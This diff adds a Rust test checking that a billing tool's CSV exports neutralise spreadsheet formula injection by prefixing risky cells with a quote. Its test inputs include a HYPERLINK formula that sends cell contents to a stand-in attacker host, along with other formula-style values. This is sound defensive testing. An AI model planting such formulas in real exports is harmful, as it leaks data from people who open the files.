@@ -464,3 +464,130 @@ fn doctor_says_what_is_in_use_and_each_problem_with_its_fix() {
             .contains("set-stripe")
     );
 }
+
+/// OWASP's CSV injection rule: a text cell starting with `=`, `+`, `-`, `@`, a tab or a CR is
+/// exported with a leading `'`, so a spreadsheet shows it instead of running it. Every text
+/// column of both exports is covered (ids, keys, plan ids, Stripe's error); ordinary text and
+/// meterline's own numbers are written as they are.
+#[test]
+fn export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
+    let s = Scratch::new();
+    let mut plans = std::fs::read_to_string(&s.plans).unwrap();
+    plans.push_str(
+        "\n[[plans]]\nid = \"-legacy\"\nname = \"Legacy\"\nprice = \"0\"\nincluded = 100\nat_limit = \"block\"\n",
+    );
+    std::fs::write(&s.plans, plans).unwrap();
+    s.add_customer("acme", "pro", "2026-11-01");
+    // `--plan=-legacy`: clap would read a separate `-legacy` as an option.
+    s.cmd()
+        .args([
+            "customer",
+            "add",
+            "@evil",
+            "--plan=-legacy",
+            "--anchor",
+            "2026-11-01",
+        ])
+        .assert()
+        .success();
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
+    for (customer, user, key) in [
+        ("acme", hyperlink, "+cmd"),
+        ("acme", "@SUM(1)", "-2+3"),
+        ("acme", "alice", "req-1"),
+        ("@evil", "bob", "=1+1"),
+    ] {
+        s.cmd()
+            .args(["record", customer])
+            .arg(format!("--user={user}"))
+            .arg(format!("--key={key}"))
+            .assert()
+            .success();
+    }
+    // Stripe's error text is stored as Stripe wrote it, and may start with anything.
+    let conn = s.conn();
+    for (key, error) in [
+        ("+cmd", "\tcmd"),
+        ("-2+3", "\r=1"),
+        ("req-1", "No such customer"),
+    ] {
+        conn.execute(
+            "UPDATE usage_events SET stripe_error = ?2 WHERE idempotency_key = ?1",
+            [key, error],
+        )
+        .unwrap();
+    }
+
+    let out = s.cmd().args(["export", "events"]).output().unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let mut csv = csv::Reader::from_reader(&out.stdout[..]);
+    let header = csv.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
+    let cells = |key: &str| {
+        let row = rows
+            .iter()
+            .find(|r| r[7].trim_start_matches('\'') == key)
+            .unwrap_or_else(|| panic!("no row for key {key}: {rows:?}"));
+        let get = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
+        (
+            get("customer_id"),
+            get("user_id"),
+            get("idempotency_key"),
+            get("stripe_error"),
+        )
+    };
+    let quoted = |text: &str| format!("'{text}");
+    assert_eq!(
+        cells("+cmd"),
+        (
+            "acme".into(),
+            quoted(hyperlink),
+            "'+cmd".into(),
+            "'\tcmd".into()
+        )
+    );
+    assert_eq!(
+        cells("-2+3"),
+        (
+            "acme".into(),
+            "'@SUM(1)".into(),
+            "'-2+3".into(),
+            "'\r=1".into()
+        )
+    );
+    // Ordinary text is untouched.
+    assert_eq!(
+        cells("req-1"),
+        (
+            "acme".into(),
+            "alice".into(),
+            "req-1".into(),
+            "No such customer".into()
+        )
+    );
+    assert_eq!(cells("=1+1").0, "'@evil");
+    // meterline's own numbers and timestamps are never changed.
+    let first = &rows[0];
+    assert!(first[0].parse::<i64>().is_ok(), "{first:?}");
+    assert_eq!(&first[3], "1");
+    assert!(first[4].starts_with("2026-11-27T"), "{first:?}");
+
+    let out = s.cmd().args(["export", "usage"]).output().unwrap();
+    assert!(out.status.success(), "{out:?}");
+    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(&out.stdout[..])
+        .records()
+        .map(Result::unwrap)
+        .collect();
+    let evil = rows.iter().find(|r| &r[0] == "'@evil").unwrap();
+    assert_eq!((&evil[3], &evil[4], &evil[6]), ("1", "'-legacy", "100"));
+    let acme = rows.iter().find(|r| &r[0] == "acme").unwrap();
+    assert_eq!((&acme[4], &acme[8], &acme[9]), ("pro", "0.0005", "49.00"));
+
+    // JSON Lines stay raw: they are read by programs, not spreadsheets.
+    let out = s
+        .cmd()
+        .args(["export", "events", "--format", "json"])
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("\"idempotency_key\":\"+cmd\""));
+}
